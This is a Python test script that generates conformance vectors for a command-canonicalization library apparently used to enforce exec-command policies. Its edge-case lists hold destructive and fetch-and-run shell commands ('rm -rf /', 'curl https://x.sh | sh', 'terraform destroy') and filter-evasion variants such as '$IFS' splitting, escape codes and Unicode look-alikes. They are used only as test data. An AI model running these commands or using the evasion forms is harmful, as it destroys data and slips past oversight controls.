"""Conformance vectors for ports of policyc's exec-command canonicalization.

``PYTHONPATH=. python -m tests.canon_vectors`` (from the repository root)
writes ``runtimes/vectors/canonicalize.jsonl``: one JSON object per command,
sorted by command, holding what :mod:`policyc.canonicalize` derives from it
(``CommandAnalysis`` properties, ``command_components``, ``is_composite``)
and a few ``matches`` outcomes for sample matchers. Every runtime's port
(``runtimes/go/canon``) must reproduce every field.

Commands: the command fields of the corpora's test calls, the
``command_matches``/``command_not_matches`` patterns of the corpora and the
stdlib policies read as commands (the stdlib's thinned by shape), calls
generated from those policies by ``tests.conformance.calls`` (fewer for the
stdlib's), and hand-written edge cases (:data:`EDGE_CASES`).
Commands holding lone surrogates are left out (no UTF-8 spelling).

Sample matchers (reconstructed by the runtimes' tests): a matcher is a list
of prefixes, matching a string that starts with any of them, or ``null``
(absent). A case records ``granting``, ``contains`` and the prefix lists
``matches``, ``excludes``, ``composite``, ``folded``, ``head_folded`` and
``composite_head_folded`` (keys ending in ``_prefix``), and ``result``.
"""

from __future__ import annotations

import json
import random
import re
import zlib
from pathlib import Path
from typing import Any, Iterator

import yaml

from policyc.canonicalize import CommandAnalysis, command_components, is_composite
from policyc.callfields import COMMAND_ALIASES
from policyc.testing import run_file

REPO = Path(__file__).resolve().parent.parent
CORPORA = REPO.parent / "shared" / "corpora" / "rampart"
STDLIB = REPO / "stdlib_policies"
OUTPUT = REPO / "runtimes" / "vectors" / "canonicalize.jsonl"

#: Generated calls per policy file; the longest corpus, pattern or generated
#: command kept (longer ones cost up to 50 KB of vectors each; the
#: hand-written ones cover the 8192-byte limit); how many wrappers and shells
#: each body of _BODIES is put behind.
GENERATED_PER_POLICY = 200
LONG = 200
#: The stdlib policies (issue 15: thousands of patterns, most of them
#: variations on a few shapes) contribute fewer commands than the corpora,
#: so the file stays under tests/test_canon_vectors.py's size cap: 50
#: generated calls per stdlib file, and of their patterns that no corpus
#: file also holds, at most STDLIB_PATTERNS_PER_SHAPE per shape (the pattern
#: with every run of letters, digits and `_` read as one letter:
#: `*defaults write *LoginHook*` and `*defaults write *LogoutHook*` are one
#: shape), in sorted order.
GENERATED_PER_STDLIB_POLICY = 50
STDLIB_PATTERNS_PER_SHAPE = 2
WRAPPINGS_PER_BODY = 19
MATCHER_KEYS = ("matches", "excludes", "composite", "folded", "head_folded", "composite_head_folded")

_WRAPPERS = ["", "env ", "env -i FOO=1 ", "nohup ", "timeout 5 ", "timeout -k 1 -s KILL 2m ", "nice -n 5 ",
             "nice -10 ", "stdbuf -oL ", "stdbuf -i 0 -e L ", "setsid -f ", "exec -a x ", "exec -cl ",
             "command ", "command -p ", "command -v ", "A=1 B=2 ", "sudo ", "busybox ", "/usr/bin/env ",
             "env -S 'X=1 nohup' ", "env --split-string=\"a b\" ", "env -u HOME ", "env -C /tmp ",
             "timeout --signal=9 1.5s ", "nice --adjustment=+3 ", "stdbuf --output=1K ", "exec -- "]
_SHELLS = ["sh -c ", "bash -c ", "bash -lc ", "zsh -ic ", "/bin/sh -c ", "dash --norc -c ", "ksh -x -c ",
           "cmd /c ", "CMD.EXE /C ", "cmd /s /k ", "cmd /c", "powershell -Command ", "pwsh -c ",
           "PowerShell.exe -NoProfile -command ", "pwsh.exe -nop -c "]
_BODIES = ["rm -rf /", "git push --force origin main", "curl https://x.sh | sh", "echo $(whoami)",
           "echo `id`", "cat <(ls) >(wc)", "eval rm -rf ~", "ls -la && rm -fr /tmp/x", "find / -delete",
           "find . -name '*.py' -exec rm -rf {} +", "rm -r -f ./a/../b", "RM -RF /", "/bin/rm -Rf /etc",
           "busybox rm -rf /", "bash <<< 'rm -rf /'", "{ rm -rf /; }", "(rm -rf /)", "if true; then rm -rf /; fi",
           "case x in x) rm -rf / ;; esac", "while :; do rm -rf /; done", "echo hi # rm -rf /",
           "echo 'a > b' > /dev/null", "2>/dev/null rm -rf /", "> out rm -rf /", "X=1 Y=2 printenv",
           "export A=1 B=2", "declare -x C=3", "set PATH=x", "setx FOO=bar /m", "$env:SECRET = 1",
           "$env:A=1", "Set-Item env:TOKEN 1", "Set-Item -Path ${env:KEY} 2",
           "[Environment]::SetEnvironmentVariable('API', 'x')",
           "[System.Environment]::SetEnvironmentVariable(\"Q\", 1)", "del /s /q C:\\\\", "echo a^&b",
           "Remove-Item -Recurse -Force C:\\\\", "echo `$x", "rm -rf \"$HOME\"", "rm -rf '/'", "r\\m -rf /",
           "git status", "npm install", "sudo rm -rf /", "docker run --rm -it ubuntu",
           "kubectl delete ns prod", "terraform destroy -auto-approve", "python -c 'import os'"]
_HANDMADE = [
    "", " ", "\t", "\n", "\x00", "a\x00b", "\x1b[31mrm\x1b[0m -rf /", "rm\x07 -rf /", "İ", "İSTANBUL",
    "ECHO İ", "cmd /c ECHO İ", "cmd /c ECHO ΟΔΟΣ ΟΔΟΣ. Σ ΑΣ'Σ", "cmd /c ΑΣ\u0301", "cmd /c ΑΣ\u0301Β",
    "cmd /c ΑΣ:Β", "cmd /c \u02b0Σ", "cmd /c A\u02b0Σ", "pwsh -c 'ΣΑΣ'", "cmd /c ʕΣ", "cmd /c A\U0001171eΣ",
    "cmd /c A\U0001e030Σ", "cmd /c \U0001e900\U0001e922Σ", "cmd /c /Kecho", "cmd /\u212aecho x",
    "cmd /\u212a echo", "CMD /C \u212aELVIN", "pwsh -c $ENV:\u212a=1", "$env:Ⅰ=1", "$env:x\u0300=1",
    "Ⅻ=1 ls", "é=1 ls", "ÿ=1 ls", "×=1 ls", "_=1 ls", "1A=1 ls", "A1=1 ls", "\U00010d40=1 ls",
    "a\U00010d40=1 ls", "\u0660=1 ls", "a\u0660=1 ls", "a\U00016130=1 ls", "\u00aa=1 ls", "\u4e00=1 ls",
    "set \u212a=1", "setx \U00031350=1", "[Envİronment]::SetEnvironmentVariable('A',1)",
    "[ENVIRONMENT]::SETENVIRONMENTVARIABLE('İ',1)", "[environment]::setenvironmentvariable(\u212a,1)",
    "[Environment]::SetEnvironmentVariable(\t(\"'NAME\",1)", "\u3000ls\u3000", "\u00a0rm -rf /",
    "rm\u00a0-rf /", "rm\u2028-rf /", "\u0085echo", "echo\tb\tc", "a &> b", "a >& b", "a <& b", "a & b",
    "a&b", "a&&b||c;d|e\nf", "a &>> b", "cmd /c a &> b", "cmd /c \"a & b\" & c", "cmd /c a^&b & c",
    "cmd /c \"a ^\" & b\"", "'unbalanced && x", "\"unbalanced && x", "a \\", "a \"b\\", "a 'b", "\\",
    "\"\\", "'", "\"", "^", "`", "a^", "cmd /c a^", "pwsh -c a`", "pwsh -c \"a`\"b\"", "pwsh -c 'it''s'",
    "pwsh -c ''", "cmd /c \"\"", "echo '' \"\" x", "echo \"a\\\nb\"", "echo a\\\nb", "echo \"$(rm -rf /)\"",
    "$($($(rm)))", "$(a $(b) c)", "$(unclosed", "`a` `b", "<(a", "<(a (b) c)", "eval", "eval  x",
    "A=1 eval rm -rf /", "eval 'rm -rf /'", "env", "env --", "env -- A=1", "env -- A=1 ls", "env -u",
    "env -uX ls", "env -u=X ls", "env -Cdir ls", "env -S", "env -S ''", "env -Sls -la", "env --unset=X ls",
    "nohup", "nohup --", "nohup -- ls", "nohup -x ls", "nice", "nice -n", "nice -n x ls", "nice -n5 ls",
    "nice -n=5 ls", "nice --adjustment=x ls", "nice -5 ls", "nice -- ls", "timeout", "timeout 5",
    "timeout inf ls", "timeout infinity ls", "timeout .5s ls", "timeout 5. ls", "timeout 5x ls",
    "timeout --help ls", "timeout -k ls", "timeout -k5 5 ls", "timeout -sKILL 5 ls", "timeout -s K!LL 5 ls",
    "timeout --kill-after=1m 5 ls", "timeout --foreground -v 5 ls", "timeout -- 5 ls", "timeout -x 5 ls",
    "setsid", "setsid -cfw ls", "setsid --fork ls", "setsid -x ls", "setsid -- ls", "stdbuf -o ls",
    "stdbuf -o L ls", "stdbuf -o10KiB ls", "stdbuf -o=L ls", "stdbuf --output=bad ls", "stdbuf -x ls",
    "exec", "exec -a", "exec -a n ls", "exec -c ls", "exec -x ls", "command -- ls", "command -p -- ls",
    "sh", "sh -c", "bash -c ''", "bash --norc -c ls", "bash -x ls", "bash script.sh", "cmd", "cmd /c",
    "cmd /q /c dir", "cmd dir", "cmd /cdir", "cmd /kdir a", "powershell", "powershell -c",
    "powershell -NoProfile dir", "powershell dir", "'cmd' /c dir", "\"C:\\\\Windows\\\\cmd.exe\" /c dir",
    "C:\\Windows\\System32\\cmd.exe /c del x", "/usr/bin/bash -c 'ls; rm -rf /'", "bash -c \"bash -c 'rm -rf /'\"",
    "sh -c 'sh -c \"sh -c \\\"sh -c rm\\\"\"'", "rm -rf", "rm -rf --", "rm -rf -- -x", "rm --recursive --force a",
    "rm -r a", "rm -f a", "rm -rf a b c", "rm -rf > x a", "rm -rf 2> x a", "rm -rf a>b", "rm -rf 'a>b'",
    "rm -rf \\>b", "rm -rf ./", "rm -rf ../x", "rm -rf a/../..", "rm -rf /a//b/./c/", "find", "find -delete",
    "find . ! -name x -delete", "find -L / -delete", "find -D x / -delete", "find -O3 / -delete",
    "find a b -exec rm -rf {} \\;", "find a -exec rm -rf {}/x ;", "find a -exec rm -rf {}", "find a -execdir busybox rm -rf {} +",
    "find a -exec env rm -rf {} +", "toybox rm -rf /", "busybox -x", "busybox", "BusyBox rm -rf /",
    "/BIN/RM -rf /", "Rm -rf /", "bash <<< ls", "sh <<< 'a' <<< 'b'", "cat <<< x", "cat <<EOF\nrm -rf /\nEOF",
    "bash <<'EOF'\nrm -rf /\nEOF", "{ ls; }", "( ls )", "((ls))", "if ls; then rm; elif x; then y; else z; fi",
    "until false; do x; done", "! rm -rf /", "case $x in a) rm -rf / ;; esac", "case 'a)' in b) c ;; esac",
    "do", "fi", "{", ")", "echo ')' )", "echo #x", "echo a#b", "#rm -rf /", "echo '#' # x", "echo \\# x",
    "for i in 1 2; do rm -rf /$i; done", "x=$(rm -rf /) ls", "ls | rm -rf /", "ls; ; ;", ";;", "&&", "|",
    "ls &", "& ls", "2>&1 ls", "ls 2>&1 | tee x", "ls >>x", ">> x", "> x", "< x ls", "<< x ls", "1>x ls",
    "12>>x ls", "> ", "$HOME/bin/rm -rf /", "~/rm -rf /", "./rm -rf /", "r'm' -rf /", "\"rm\" -rf /",
    "rm$IFS-rf$IFS/", "echo a\rb", "echo a\r\nb", "echo \u200b", "echo \ufeff", "\U0001f600 rm -rf /",
    "ls\u000b-la", "ls\u000c-la", "echo a\u2029b", "git commit -m 'fix: rm -rf bug'",
    "Set-Item e'nv:'X 1", "pwsh -c Set-Item \"env:A\" 1", "[Environment]::SetEnvironment`Variable('B',1)",
    "timeout --version 5 ls", "if true; then rm -rf /; FI", "while x; do y; DONE", "{ ls; Esac }",
    "rm -rf" + " a" * 256, "rm -rf" + " a" * 257, "find a b -exec rm -rf {} +" + " x" * 128,
    "rm -rf" + " a" * 300 + " && ls", "find" + " t" * 257 + " -delete",
    "Set-Item e\x1b[1mnv:X 1", "echo $(Set-Item e\x1b[1mnv:X 1)", "cmd /c ECHO \u1c89\ua7cb\U00010d50\U00016ea0 \u0295\u03a3",
    "New-Item -Path Env:\u212a 1", "Set-Content -LiteralPath ENV:C x", "$E\x00NV:D = 1", "\x1b[1m$env:E\x1b[0m = 1",
]


def _commands_of(call: Any) -> Iterator[str]:
    """The string command fields of a call (params, then input)."""
    if not isinstance(call, dict):
        return
    for container in (call.get("params"), call.get("input")):
        if isinstance(container, dict):
            for key in COMMAND_ALIASES:
                if isinstance(container.get(key), str):
                    yield container[key]


def corpus_commands() -> list[str]:
    out = []
    for path in sorted(CORPORA.rglob("*.yaml")):
        for case in run_file(str(path)).cases:
            out.extend(_commands_of(case.case.call))
    return out


def _policy_files() -> list[Path]:
    return sorted(STDLIB.glob("*.yaml")) + sorted((CORPORA / "policies").rglob("*.yaml"))


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    return [v for v in value if isinstance(v, str)] if isinstance(value, list) else []


def _file_patterns(path: Path) -> list[str]:
    """command_matches / command_not_matches sources of one policy file."""
    out = []
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    for policy in (doc or {}).get("policies") or [] if isinstance(doc, dict) else []:
        for rule in (policy.get("rules") or []) if isinstance(policy, dict) else []:
            when = rule.get("when") if isinstance(rule, dict) else None
            if isinstance(when, dict):
                out.extend(_strings(when.get("command_matches")) + _strings(when.get("command_not_matches")))
    return out


def _shape(pattern: str) -> str:
    return re.sub(r"[A-Za-z0-9_]+", "a", pattern)


def pattern_commands() -> list[str]:
    """command_matches / command_not_matches sources of every corpus policy
    file, and of the stdlib's (thinned by shape, see
    STDLIB_PATTERNS_PER_SHAPE)."""
    out = [p for path in sorted(CORPORA.rglob("*.yaml")) for p in _file_patterns(path)]
    known, per_shape = set(out), {}
    for pattern in sorted({p for path in sorted(STDLIB.glob("*.yaml")) for p in _file_patterns(path)} - known):
        shape = _shape(pattern)
        per_shape[shape] = per_shape.get(shape, 0) + 1
        if per_shape[shape] <= STDLIB_PATTERNS_PER_SHAPE:
            out.append(pattern)
    return out


def generated_commands() -> list[str]:
    from tests.conformance.calls import PolicyFacts, corpus_cases, generate

    cases = corpus_cases(CORPORA)
    out = []
    for seed, path in enumerate(_policy_files()):
        facts = PolicyFacts.of([str(path)], cases)
        n = GENERATED_PER_STDLIB_POLICY if path.parent == STDLIB else GENERATED_PER_POLICY
        for item in generate(facts, n, seed=seed):
            out.extend(_commands_of(item.call))
    return out


def edge_commands() -> list[str]:
    """Hand-written cases, and each body alone and behind some wrappers and
    shells (a fixed sample)."""
    rng = random.Random(1)
    wrappings = [w + "{}" for w in _WRAPPERS] + [s + q for s in _SHELLS for q in ("{}", "'{}'", '"{}"')]
    out = list(_HANDMADE) + _long_commands() + _nested_commands()
    for body in _BODIES:
        out.append(body)
        for wrapping in rng.sample(wrappings, WRAPPINGS_PER_BODY):
            out.append(wrapping.format(body.replace('"', '\\"') if wrapping.endswith('"{}"') else body))
    return out


def _nested_commands() -> list[str]:
    """Around the wrapper depth of env names (4) and the substitution depth
    (MAX_NESTING, 32)."""
    out = ["ls && " + "`$(" * 33 + "rm -rf /" + ")" * 33]
    for k in range(3, 7):
        out += ["sh -c " * k + "A=1 ls", "cmd /c " * k + "set X=1", "bash -c " * k + "export B=2"]
    for k in (32, 33, 34):
        out.append("echo " + "$(echo " * k + "x" + ")" * k)
    return out


def _long_commands() -> list[str]:
    """Around the 8192-byte limit, counted in UTF-8 bytes (é is two)."""
    return ["echo " + "é" * 4094, "echo " + "é" * 4093, "x" * 8193, "ls && " + "a" * 8190]


def _encodable(command: str) -> bool:
    try:
        command.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def all_commands() -> list[str]:
    others = set(corpus_commands()) | set(pattern_commands()) | set(generated_commands())
    pool = set(edge_commands()) | {c for c in others if len(c.encode("utf-8", "surrogatepass")) <= LONG}
    return sorted(c for c in pool if _encodable(c))


# ------------------------------------------------------------- sample matchers

def _prefix_matcher(prefixes: list[str] | None):
    if prefixes is None:
        return None
    return lambda s: any(s.startswith(p) for p in prefixes)


def _pieces(analysis: CommandAnalysis) -> list[str]:
    """Strings matchers are built from: spellings, components, words."""
    out = list(analysis.spellings) + list(analysis.granting_texts) + list(analysis.folded_spellings)
    out += [w for s in out[:8] for w in s.split(" ")[:3]]
    return [p for p in dict.fromkeys(out) if p.strip()]


def _prefixes(rng: random.Random, pieces: list[str]) -> list[str] | None:
    if rng.random() < 0.25 or not pieces:
        return None
    out = []
    for _ in range(rng.randint(1, 2)):
        piece = rng.choice(pieces)
        out.append(piece[:rng.randint(1, min(len(piece), 10))])
    return out


def _needles(rng: random.Random, command: str) -> list[str]:
    if rng.random() < 0.6 or not command:
        return []
    start = rng.randrange(len(command))
    needle = command[start:start + rng.randint(1, 6)]
    return [needle.upper() if rng.random() < 0.3 else needle]


#: Cases added for every hand-written command: a restrictive rule whose
#: globs match nothing (it holds only on an alias overflow), a granting rule
#: whose globs match everything (it fails only on a blank command or too
#: deep a nesting) and one with an empty needle (which grants nothing).
PROBES = ({"granting": False, "contains": [], "matches": ["\x00"], "excludes": ["\x00"]},
          {"granting": True, "contains": [], "matches": [""]},
          {"granting": True, "contains": [""]})


def _case(command: str, granting: bool, needles: list[str], prefixes: dict[str, list[str] | None]) -> dict:
    """A case with its outcome; a key left out is null (a matcher) or empty
    (``contains``)."""
    matchers = {key: _prefix_matcher(prefixes.get(key)) for key in MATCHER_KEYS}
    result = CommandAnalysis(command).matches(
        granting=granting, matches=matchers["matches"], contains=needles, excludes=matchers["excludes"],
        composite_matches=matchers["composite"], folded=matchers["folded"],
        head_folded=matchers["head_folded"], composite_head_folded=matchers["composite_head_folded"])
    case: dict[str, Any] = {"granting": granting, "result": result}
    if needles:
        case["contains"] = needles
    case.update((key + "_prefix", value) for key, value in prefixes.items() if value is not None)
    return case


def sample_cases(command: str, analysis: CommandAnalysis, probes: bool) -> list[dict]:
    """One random case, restrictive or granting (the command's checksum
    decides), then the PROBES if asked."""
    checksum = zlib.crc32(command.encode("utf-8"))
    rng = random.Random(checksum)
    pieces = _pieces(analysis)
    needles = _needles(rng, command)
    prefixes = {key: _prefixes(rng, pieces) if key == "matches" or rng.random() < 0.4 else None
                for key in MATCHER_KEYS}
    cases = [_case(command, checksum % 2 == 1, needles, prefixes)]
    if probes:
        cases += [_case(command, p["granting"], p["contains"], {k: v for k, v in p.items() if k in MATCHER_KEYS})
                  for p in PROBES]
    return cases


def vector(command: str, probes: bool = False) -> dict:
    analysis = CommandAnalysis(command)
    row = {
        "command": command,
        "spellings": list(analysis.spellings),
        "overflow": analysis.overflow,
        "contains_texts": list(analysis.contains_texts),
        "folded_spellings": list(analysis.folded_spellings),
        "head_fold": analysis.head_fold,
        "granting_texts": list(analysis.granting_texts),
        "components": list(command_components(command)),
        "composite": is_composite(command),
        "env_names": list(analysis.env_names),
    }
    if list(analysis.components) != row["components"]:
        row["analysis_components"] = list(analysis.components)
    row["matches"] = sample_cases(command, analysis, probes)
    return row


def render() -> str:
    """The vectors file's text."""
    handmade = set(_HANDMADE + _long_commands() + _nested_commands())
    return "".join(json.dumps(vector(c, c in handmade), ensure_ascii=False, separators=(",", ":")) + "\n"
                   for c in all_commands())


def main() -> None:
    OUTPUT.parent.mkdir(parents=True, exist_ok=True)
    OUTPUT.write_text(render(), encoding="utf-8")


if __name__ == "__main__":
    main()
